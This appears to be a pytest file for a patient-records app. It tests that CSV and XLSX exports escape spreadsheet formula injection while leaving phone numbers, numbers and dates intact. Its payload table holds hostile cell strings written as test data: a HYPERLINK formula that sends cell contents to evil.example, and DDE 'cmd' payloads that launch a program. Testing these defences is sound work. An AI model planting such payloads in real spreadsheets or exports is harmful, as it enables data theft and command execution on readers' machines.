"""Issue #17, point 16: XLSX cells are typed text, so only text a spreadsheet
would run gets the apostrophe there (a phone number stays as it is); CSV, untyped,
keeps escaping every text that starts like a formula."""

import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from records.imports import exports
from records.patients.models import Assessment, Patient
from records.users import roles
from tests import factories
from tests.helpers import csv_rows

pytestmark = pytest.mark.django_db

# What an attacker might store in a free-text field, and what an XLSX cell holds.
PAYLOADS = {
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")': (
        '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    ),
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",  # DDE
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0": "'@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "\t=1+2": "'\t=1+2",
    "\x01=1+2": "'=1+2",  # control characters go first, then escaping
    "+44 7700 900123": "+44 7700 900123",  # a phone number, as typed
    "-7": "-7",
    "#N/A": "#N/A",  # text, not Excel's error value
    "Talvi Quennard": "Talvi Quennard",
}
FIELDS = ["preferred_name", "guardian_name", "address_line1", "address_line2"]


@pytest.fixture
def data_manager(make_user):
    return make_user("data", roles=[roles.DATA_MANAGER])


def _xlsx_rows(data: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("text, cell", PAYLOADS.items())
def test_the_xlsx_rule_escapes_only_what_would_run(text, cell):
    assert exports.escape_xlsx_text(text) == cell


@pytest.mark.parametrize("text", PAYLOADS)
def test_csv_keeps_escaping_everything_that_starts_like_a_formula(text):
    stripped = text.replace("\x01", "")
    expected = "'" + stripped if stripped[:1] in "=+-@\t\r" else stripped
    assert exports.escape_cell(text) == expected


def test_an_xlsx_export_holds_typed_text_escaped_only_where_it_would_run(
    data_manager,
):
    author = factories.clinician()
    texts = list(PAYLOADS)
    charts = []
    for start in range(0, len(texts), len(FIELDS)):
        patient = factories.patient(
            acting_user=author, guardian_phone="+44 20 7946 0123"
        )
        chunk = texts[start : start + len(FIELDS)]
        # Stored straight in the table, as any writer might have (no form rules).
        Patient.objects.filter(pk=patient.pk).update(**dict(zip(FIELDS, chunk)))
        charts.append((patient, chunk))
    columns = ["mrn", "guardian_phone", *FIELDS, "date_of_birth"]

    rows = _xlsx_rows(
        exports.export_xlsx(user=data_manager, entity="patients", columns=columns)
    )

    assert [cell.value for cell in rows[0]] == columns
    by_mrn = {row[0].value: row for row in rows[1:]}
    for patient, chunk in charts:
        row = by_mrn[patient.mrn]
        # The phone number, stored in E.164, is as stored: no apostrophe.
        assert (row[1].value, row[1].data_type) == ("+442079460123", "s")
        for cell, text in zip(row[2:], chunk):
            assert cell.value == PAYLOADS[text], text
            assert cell.data_type == "s", text  # never a formula, never an error
        # A date stays a date.
        assert row[-1].is_date and row[-1].value.date() == patient.date_of_birth


def test_a_csv_export_still_escapes_the_phone_number(data_manager):
    patient = factories.patient(
        acting_user=factories.clinician(), guardian_phone="+44 20 7946 0123"
    )
    Patient.objects.filter(pk=patient.pk).update(preferred_name="-2+3")
    rows = csv_rows(
        exports.export_csv(
            user=data_manager,
            entity="patients",
            columns=["mrn", "guardian_phone", "preferred_name"],
        )
    )
    assert rows[1] == [patient.mrn, "'+442079460123", "'-2+3"]


def test_numbers_stay_numbers_in_xlsx(data_manager):
    clinician = factories.clinician()
    patient = factories.patient(acting_user=clinician)
    assessment = factories.assessment(
        acting_user=clinician, patient=patient, findings="-worse than expected"
    )
    Assessment.objects.filter(pk=assessment.pk).update(total_score=Decimal("-3.5"))
    rows = _xlsx_rows(
        exports.export_xlsx(
            user=data_manager,
            entity="assessments",
            columns=["patient_mrn", "total_score", "findings"],
        )
    )
    score, findings = rows[1][1], rows[1][2]
    assert (score.value, score.data_type) == (-3.5, "n")
    assert (findings.value, findings.data_type) == ("'-worse than expected", "s")


def test_the_xlsx_import_template_shows_the_phone_example_as_it_is(client, make_user):
    manager = make_user("manager", roles=[roles.DATA_MANAGER])
    client.force_login(manager)
    url = reverse("admin:imports_importjob_template", args=["patients", "xlsx"])
    response = client.get(url)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["data"]
    header, example = list(sheet.iter_rows(values_only=True))[:2]
    assert example[header.index("guardian_phone")] == "+44 20 7946 0123"
